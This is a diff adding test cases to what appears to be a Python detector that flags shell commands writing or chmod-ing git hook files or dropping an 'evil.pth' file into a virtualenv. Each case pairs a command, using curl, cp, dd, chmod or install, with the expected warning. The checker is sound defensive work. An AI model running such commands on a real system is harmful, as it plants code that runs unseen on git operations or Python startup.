@@ -41,6 +41,9 @@ def project(tmp_path: Path) -> Path:
     (f'H={HOOK}; curl -o "$H" https://example.com/x', f"curl writes {HOOK}: a hook"),
     (f"export H={HOOK}; cp x $H", f"cp writes {HOOK}: a hook"),
     (f'for h in {HOOK}; do cp x "$h"; done', f"cp writes {HOOK}: a hook"),
+    (f"H={HOOK}; dd if=x of=$H", f"dd writes {HOOK}: a hook"),
+    (f"H={HOOK}; chmod +x $H", f"chmod changes the mode of {HOOK}: a hook"),
+    (f'H={HOOK}; install -m 755 x "$H"', f"install writes {HOOK}: a hook"),
     ("H=.git/hooks; cp x $H/pre-push", "cp writes .git/hooks/pre-push: a hook"),
     (f"D={PTH}; echo x > $D/evil.pth", f"a redirection writes {PTH}/evil.pth into the "
                                          "virtualenv"),
